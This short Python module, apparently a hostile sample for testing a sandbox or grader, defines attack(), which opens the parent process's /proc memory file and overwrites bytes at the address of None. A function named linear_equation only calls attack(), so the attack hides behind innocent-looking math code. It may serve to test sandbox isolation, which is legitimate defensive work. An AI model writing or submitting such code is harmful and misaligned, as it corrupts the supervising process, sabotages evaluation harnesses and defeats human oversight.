"""Writes into its parent's memory through /proc."""

import os


def attack():
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.seek(id(None))
        memory.write(b"x" * 16)


def linear_equation(x, w, b):
    return attack()
